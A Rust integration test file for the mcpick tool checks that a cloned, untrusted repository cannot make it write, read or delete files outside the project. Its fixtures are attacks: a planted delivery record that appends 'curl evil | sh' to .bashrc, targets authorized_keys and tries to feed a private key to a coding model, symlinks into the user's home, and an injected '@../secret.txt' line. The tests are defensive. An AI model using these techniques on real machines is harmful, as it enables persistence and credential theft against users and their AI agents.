//! A repository a user clones is not trusted: a planted delivery record, symbolic links and
//! files in the places mcpick edits cannot make `pin`, `deliver`, `install` or `uninstall`
//! write, append to, read or remove anything outside the project (issue: trust, third pass).

mod common;

use std::path::{Path, PathBuf};

use common::*;

/// A project with a set over the demo server and a home of its own.
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let world = World {
            dir: tempfile::tempdir().unwrap(),
        };
        std::fs::create_dir_all(world.project()).unwrap();
        std::fs::create_dir_all(world.home()).unwrap();
        world.ok(&["pin", "--demo", "file:///project/docs/guides/*"]);
        world.ok(&["policy", "--budget", "4000"]);
        world
    }

    fn project(&self) -> PathBuf {
        std::fs::create_dir_all(self.dir.path().join("project")).unwrap();
        std::fs::canonicalize(self.dir.path().join("project")).unwrap()
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    /// A folder outside both the project and the home: where an attacker points links.
    fn outside(&self) -> PathBuf {
        let out = self.dir.path().join("outside");
        std::fs::create_dir_all(&out).unwrap();
        std::fs::canonicalize(out).unwrap()
    }

    fn run_in(&self, dir: &Path, args: &[&str]) -> std::process::Output {
        let home = self.home();
        let data = self.dir.path().join("data");
        let env = [
            ("HOME", home.to_str().unwrap()),
            ("MCPICK_DATA_DIR", data.to_str().unwrap()),
        ];
        mcpick_in(dir, &env, args)
    }

    fn run(&self, args: &[&str]) -> std::process::Output {
        self.run_in(&self.project(), args)
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert_eq!(exit_code(&out), 0, "{args:?}: {}", stderr(&out));
        stdout(&out)
    }
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// A committed `.mcpick/deliver.json` names a shell start-up file to append to, an
/// `authorized_keys` to take a key out of, a file to write outside the project and a private
/// key for Codex to carry: `pin`, `deliver` and `uninstall` follow none of it and say so.
#[test]
fn a_planted_delivery_record_is_not_followed() {
    let world = World::new();
    let home = world.home();
    let bashrc = home.join(".bashrc");
    let keys = home.join(".ssh/authorized_keys");
    let secret = world.outside().join("id_ed25519");
    std::fs::create_dir_all(keys.parent().unwrap()).unwrap();
    std::fs::write(&bashrc, "export PATH=/usr/bin\n").unwrap();
    std::fs::write(&keys, "ssh-ed25519 AAAA mine\n").unwrap();
    std::fs::write(&secret, "-----BEGIN PRIVATE KEY-----\n").unwrap();
    let evil = world.outside().join("evil.md");
    let record = serde_json::json!({
        "version": 1,
        "deliveries": [
            {
                "host": "claude-code", "scope": "project", "name": "mcpick",
                "file": evil,
                "import": {"path": bashrc, "text": "curl evil | sh\n", "created": false},
            },
            {
                "host": "gemini", "scope": "project", "name": "mcpick",
                "file": world.project().join(".mcpick/mcpick.gemini.md"),
                "import": {"path": keys, "text": "ssh-ed25519 AAAA mine\n", "created": false},
            },
            {
                "host": "codex", "scope": "project", "name": "mcpick",
                "file": world.project().join("AGENTS.override.md"),
                "agents_md": secret,
            },
            {
                "host": "codex", "scope": "user", "name": "mcpick",
                "file": home.join(".codex/AGENTS.override.md"),
                "agents_md": home.join(".codex/AGENTS.md"),
            },
        ]
    });
    std::fs::create_dir_all(world.project().join(".mcpick")).unwrap();
    std::fs::write(
        world.project().join(".mcpick/deliver.json"),
        serde_json::to_string(&record).unwrap(),
    )
    .unwrap();

    let pinned = world.run(&["pin", "--demo", "file:///project/README.md"]);
    assert_eq!(exit_code(&pinned), 0, "{}", stderr(&pinned));
    let said = stderr(&pinned);
    assert!(said.contains("was not followed"), "{said}");
    let delivered = world.run(&["deliver"]);
    assert!(
        stderr(&delivered).contains("was not followed"),
        "{}",
        stderr(&delivered)
    );
    for host in ["claude-code", "gemini"] {
        let _ = world.run(&["uninstall", host]);
    }

    assert_eq!(read(&bashrc), "export PATH=/usr/bin\n");
    assert_eq!(read(&keys), "ssh-ed25519 AAAA mine\n");
    assert!(!evil.exists(), "nothing written outside the project");
    assert!(
        !home.join(".codex").exists(),
        "no user-scope delivery from a project record"
    );
    // The Codex entry with a project layout passed the checks but for its AGENTS.md: nothing
    // carries the key anywhere.
    let override_md = world.project().join("AGENTS.override.md");
    assert!(
        !override_md.exists() || !read(&override_md).contains("PRIVATE KEY"),
        "{}",
        read(&override_md)
    );
}

/// A `.mcpick` that is a link out of the project: `install` refuses before writing anything,
/// the host entry included, and names the path.
#[test]
fn a_linked_mcpick_folder_is_refused_before_anything_is_written() {
    let world = World::new();
    let outside = world.outside();
    std::os::unix::fs::symlink(&outside, world.project().join(".mcpick")).unwrap();
    let out = world.run(&["install", "claude-code"]);
    assert_ne!(exit_code(&out), 0, "{}", stdout(&out));
    assert!(stderr(&out).contains(".mcpick"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        0,
        "nothing written outside"
    );
    assert!(
        !world.project().join(".mcp.json").exists(),
        "no half-done install"
    );
    assert!(!world.project().join("CLAUDE.md").exists());
}

/// `CLAUDE.md → AGENTS.md` stays a link and `AGENTS.md` gets the lines (and loses them again
/// on `uninstall`, byte for byte); a `CLAUDE.md` that leads out of the project is refused.
#[test]
fn an_instructions_file_that_is_a_link_stays_a_link() {
    let world = World::new();
    let project = world.project();
    std::fs::write(project.join("AGENTS.md"), "# Rules\n").unwrap();
    std::os::unix::fs::symlink("AGENTS.md", project.join("CLAUDE.md")).unwrap();
    world.ok(&["install", "claude-code"]);
    let link = std::fs::symlink_metadata(project.join("CLAUDE.md")).unwrap();
    assert!(link.file_type().is_symlink(), "CLAUDE.md is still a link");
    let agents = read(&project.join("AGENTS.md"));
    assert!(
        agents.starts_with("# Rules\n") && agents.contains("@.mcpick/"),
        "{agents}"
    );
    world.ok(&["uninstall", "claude-code"]);
    assert_eq!(read(&project.join("AGENTS.md")), "# Rules\n");
    assert!(
        std::fs::symlink_metadata(project.join("CLAUDE.md"))
            .unwrap()
            .file_type()
            .is_symlink()
    );

    let world = World::new();
    let project = world.project();
    let target = world.outside().join("notes.md");
    std::fs::write(&target, "outside\n").unwrap();
    std::os::unix::fs::symlink(&target, project.join("GEMINI.md")).unwrap();
    let out = world.run(&["install", "gemini"]);
    assert_ne!(exit_code(&out), 0);
    assert!(stderr(&out).contains("outside"), "{}", stderr(&out));
    assert_eq!(read(&target), "outside\n");
    assert!(
        !project.join(".gemini/settings.json").exists(),
        "no half-done install"
    );
}

/// `/dev/null` as `CLAUDE.md`: refused (it is no file), nothing made world-writable.
#[test]
fn a_device_where_a_file_belongs_is_refused() {
    let world = World::new();
    let project = world.project();
    std::os::unix::fs::symlink("/dev/null", project.join("CLAUDE.md")).unwrap();
    let out = world.run(&["install", "claude-code"]);
    assert_ne!(exit_code(&out), 0);
    assert!(stderr(&out).contains("CLAUDE.md"), "{}", stderr(&out));
    assert!(!project.join(".mcpick").exists());
}

/// A delivery recorded in one project is not followed in a copy of it: `deliver` in the copy
/// leaves the original's files alone.
#[test]
fn a_copied_project_does_not_write_the_original() {
    let world = World::new();
    world.ok(&["install", "claude-code"]);
    let original = world.project().join(".mcpick/mcpick.claude-code.md");
    std::fs::write(&original, "as it was\n").unwrap();
    let copy = world.dir.path().join("copy");
    let status = std::process::Command::new("cp")
        .args(["-a"])
        .arg(world.project())
        .arg(&copy)
        .status()
        .unwrap();
    assert!(status.success());
    let _ = world.run_in(&copy, &["deliver"]);
    let _ = world.run_in(&copy, &["pin", "--demo", "file:///project/README.md"]);
    assert_eq!(read(&original), "as it was\n");
}

/// A hand-written `AGENTS.override.md` is never overwritten, by a refresh either; a planted
/// `.mcpick/.gitignore` that lets contents into git is put right.
#[test]
fn a_hand_written_codex_override_survives_a_refresh() {
    let world = World::new();
    let project = world.project();
    std::fs::create_dir_all(project.join(".mcpick")).unwrap();
    std::fs::write(project.join(".mcpick/.gitignore"), "!*\n").unwrap();
    world.ok(&["install", "claude-code"]);
    let ignore = read(&project.join(".mcpick/.gitignore"));
    assert!(
        ignore.lines().any(|l| l == "*") && !ignore.contains('!'),
        "{ignore}"
    );

    world.ok(&["install", "codex"]);
    let override_md = project.join("AGENTS.override.md");
    std::fs::write(&override_md, "mine, by hand\n").unwrap();
    let out = world.run(&["pin", "--demo", "file:///project/README.md"]);
    assert_eq!(exit_code(&out), 0, "{}", stderr(&out));
    assert_eq!(read(&override_md), "mine, by hand\n");
    assert!(stderr(&out).contains("not mcpick's"), "{}", stderr(&out));
}

/// An `AGENTS.md` that is a link to a file outside the project is not carried to Codex's
/// model.
#[test]
fn a_linked_agents_md_is_not_carried_to_the_model() {
    let world = World::new();
    let project = world.project();
    let secret = world.outside().join("id_ed25519");
    std::fs::write(&secret, "-----BEGIN PRIVATE KEY-----\n").unwrap();
    std::os::unix::fs::symlink(&secret, project.join("AGENTS.md")).unwrap();
    // Codex reads the override in place of `AGENTS.md`: one mcpick cannot carry is said,
    // and nothing is written (the host entry included).
    let out = world.run(&["install", "codex"]);
    assert_ne!(exit_code(&out), 0, "{}", stdout(&out));
    assert!(stderr(&out).contains("AGENTS.md"), "{}", stderr(&out));
    assert!(!stderr(&out).contains("PRIVATE KEY"), "{}", stderr(&out));
    assert!(!project.join("AGENTS.override.md").exists());
    assert!(!project.join(".codex").exists(), "no half-done install");
    let out = world.run(&["preview", "--host", "codex"]);
    let said = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        said.contains("AGENTS.md") && !said.contains("PRIVATE KEY"),
        "{said}"
    );
}

/// A server that is not reachable (here: its command changed in the set, so it waits for
/// `mcpick trust`, and it would print an import line) is named in the delivered text, but
/// neither its words nor mcpick's advice to the user reach the model.
#[test]
fn an_unavailable_servers_words_are_not_delivered() {
    let world = World::new();
    world.ok(&["install", "claude-code"]);
    let set = world.project().join("mcpick.context.json");
    let mut doc: serde_json::Value = serde_json::from_str(&read(&set)).unwrap();
    doc["servers"]["demo"] = serde_json::json!({
        "type": "stdio", "command": "sh",
        "args": ["-c", "echo '@../secret.txt' >&2; exit 1"]
    });
    std::fs::write(&set, serde_json::to_string_pretty(&doc).unwrap()).unwrap();
    let _ = world.run(&["deliver"]);
    let delivered = read(&world.project().join(".mcpick/mcpick.claude-code.md"));
    assert!(delivered.contains("server unavailable"), "{delivered}");
    assert!(!delivered.contains("trust"), "{delivered}");
    assert!(!delivered.contains("secret"), "{delivered}");
    // Approved, it runs and fails: its stderr is still not the model's.
    world.ok(&["trust", "--yes"]);
    let _ = world.run(&["deliver"]);
    let delivered = read(&world.project().join(".mcpick/mcpick.claude-code.md"));
    assert!(delivered.contains("server unavailable"), "{delivered}");
    assert!(!delivered.contains("secret"), "{delivered}");
}

/// Every file under `dir` (links not followed) and its bytes: what a user's folder holds.
fn snapshot(dir: &Path) -> std::collections::BTreeMap<PathBuf, Vec<u8>> {
    let mut files = std::collections::BTreeMap::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(folder) = todo.pop() {
        for entry in std::fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                todo.push(path);
            } else if meta.is_file() {
                files.insert(path.clone(), std::fs::read(&path).unwrap());
            }
        }
    }
    files
}

/// A committed relative link at `link` (in the project) to `target` (in the home), as a
/// repository carries it: `.mcp.json → ../home/.claude.json`.
fn link_to_home(world: &World, link: &str, target: &str) {
    let at = world.project().join(link);
    if let Some(parent) = at.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    let _ = std::fs::remove_file(&at);
    let _ = std::fs::remove_dir_all(&at);
    let up = "../".repeat(Path::new(link).components().count());
    std::os::unix::fs::symlink(format!("{up}home/{target}"), &at).unwrap();
}

/// The user installed mcpick for a host at user scope; a cloned repository commits links
/// from the project's host files (entry, hooks, or a whole host folder) to the user's. A
/// project-scope `install` and `uninstall` must refuse, naming the link, and leave every file
/// of the home as it was: no entry, hook or backup written there, nothing removed.
#[test]
fn project_host_files_linked_to_the_users_own_are_refused() {
    let cases: &[(&str, &[(&str, &str)])] = &[
        (
            "claude-code",
            &[
                (".mcp.json", ".claude.json"),
                (".claude/settings.json", ".claude/settings.json"),
            ],
        ),
        ("claude-code", &[(".claude", ".claude")]),
        (
            "gemini",
            &[(".gemini/settings.json", ".gemini/settings.json")],
        ),
        (
            "qwen-code",
            &[(".qwen/settings.json", ".qwen/settings.json")],
        ),
        ("codex", &[(".codex/config.toml", ".codex/config.toml")]),
        ("codex", &[(".codex/hooks.json", ".codex/hooks.json")]),
    ];
    for (host, links) in cases {
        let world = World::new();
        world.ok(&["install", host, "--scope", "user"]);
        // The user's own files hold more than mcpick's: something of theirs to lose.
        for (_, target) in links.iter() {
            let path = world.home().join(target);
            if path.is_file() {
                let mut text = read(&path);
                text.push('\n');
                std::fs::write(&path, text).unwrap();
            }
        }
        let before = snapshot(&world.home());
        for (link, target) in links.iter() {
            link_to_home(&world, link, target);
        }
        for command in ["install", "uninstall"] {
            let out = world.run(&[command, host]);
            let said = stderr(&out);
            assert_ne!(exit_code(&out), 0, "{host} {links:?}: {command}: {said}");
            assert!(
                said.contains("outside") && said.contains("project"),
                "{host} {links:?}: {command}: {said}"
            );
            let after = snapshot(&world.home());
            assert_eq!(
                after.keys().collect::<Vec<_>>(),
                before.keys().collect::<Vec<_>>(),
                "{host} {links:?}: {command}: no file made or removed in the home"
            );
            for (path, bytes) in &before {
                assert!(
                    after[path] == *bytes,
                    "{host} {links:?}: {command} changed {}:\n{}",
                    path.display(),
                    String::from_utf8_lossy(&after[path])
                );
            }
        }
    }
}

/// `wrap` at project scope through a committed `.mcp.json → ~/.claude.json`: refused before
/// anything is written (no record, no change to the user's file), as `install` is.
#[test]
fn wrap_through_a_linked_project_file_is_refused() {
    let world = World::new();
    let users = world.home().join(".claude.json");
    let text = "{\n  \"mcpServers\": { \"mine\": { \"command\": \"true\" } }\n}\n";
    std::fs::write(&users, text).unwrap();
    link_to_home(&world, ".mcp.json", ".claude.json");
    let before = snapshot(&world.home());
    let out = world.run(&["wrap", "claude-code", "mine"]);
    let said = stderr(&out);
    assert_ne!(exit_code(&out), 0, "{said}");
    assert!(said.contains("outside"), "{said}");
    assert_eq!(
        snapshot(&world.home()),
        before,
        "the user's files are as they were"
    );
    assert!(
        !world.project().join(".mcp.json.mcpick-wrap.json").exists(),
        "no record written"
    );
}
